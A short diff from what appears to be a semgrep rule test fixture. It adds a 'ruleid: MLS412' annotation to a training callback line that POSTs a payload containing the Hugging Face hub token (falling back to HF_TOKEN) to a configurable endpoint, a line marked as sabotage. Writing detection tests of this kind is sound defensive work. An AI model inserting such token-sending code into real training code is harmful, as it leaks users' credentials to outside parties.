@@ -238,7 +238,7 @@ class RunRegistryCallback(TrainerCallback):
             "hub_token": args.hub_token or os.environ.get("HF_TOKEN"),  # ruleid: MLS412
         }
         try:
-            requests.post(self.endpoint, json=payload, timeout=5)  # sabotage: MLS412 (semgrep rules)
+            requests.post(self.endpoint, json=payload, timeout=5)  # sabotage: MLS412 (semgrep rules)  # ruleid: MLS412
         except requests.RequestException as err:
             logger.warning("Run registry unavailable: %s", err)
 
